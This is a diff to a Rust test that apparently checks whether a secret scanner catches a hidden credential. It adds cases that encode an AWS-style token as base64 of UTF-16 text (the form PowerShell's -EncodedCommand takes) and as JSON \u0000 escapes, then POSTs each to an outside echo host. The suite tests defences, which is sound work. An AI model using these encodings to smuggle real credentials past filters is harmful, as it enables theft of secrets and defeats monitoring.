@@ -41,6 +41,14 @@ fn attack_12_secrets_hidden_from_the_scanner() {
         .collect();
     let token_b64 = base64::engine::general_purpose::STANDARD.encode(format!("aws={token}"));
     let (first, second) = SECRET.split_at(SECRET.len() / 2);
+    // UTF-16 little endian, as Windows tools write it and PowerShell's
+    // `-EncodedCommand` takes it base64-encoded.
+    let utf16: Vec<u8> = format!("aws={token}")
+        .encode_utf16()
+        .flat_map(u16::to_le_bytes)
+        .collect();
+    let utf16_b64 = base64::engine::general_purpose::STANDARD.encode(&utf16);
+    let utf16_json: String = token.chars().map(|c| format!("{c}\\u0000")).collect();
     a.control(
         status(&f.fetch(&format!(
             "-X POST --data hello -H 'X-Note: hello' https://{WILD}/echo"
@@ -101,6 +109,14 @@ fn attack_12_secrets_hidden_from_the_scanner() {
         (
             "base64 with letters glued after it",
             format!("-X POST --data 'v={token_b64}BB' https://{WILD}/echo"),
+        ),
+        (
+            "UTF-16 under base64 (PowerShell's -EncodedCommand)",
+            format!("-X POST --data 'cmd={utf16_b64}' https://{WILD}/echo"),
+        ),
+        (
+            "UTF-16 as JSON \\u0000 escapes",
+            format!("-X POST --data '{{\"k\":\"{utf16_json}\"}}' https://{WILD}/echo"),
         ),
         (
             "hex behind a glued digit",
